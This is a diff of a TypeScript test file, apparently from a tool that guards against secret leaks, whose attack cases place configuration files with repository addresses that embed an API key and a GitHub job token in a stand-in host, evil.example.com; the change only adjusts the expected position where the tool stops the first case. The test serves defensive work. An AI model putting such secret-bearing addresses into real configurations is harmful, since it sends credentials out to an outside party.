@@ -52,7 +52,7 @@ const stack = (body: unknown) => ({
 const attacks: Readonly<Record<string, Attack>> = {
   "our key in a repository's address": {
     files: { "rnv.yaml": repository("https://evil.example.com/${env.RNV_API_KEY}") },
-    stopped: "rnv.yaml:6:64",
+    stopped: "rnv.yaml:6:38",
   },
   "a token of the job in a repository's address": {
     files: { "rnv.yaml": repository("https://evil.example.com/${env.GITHUB_TOKEN}") },
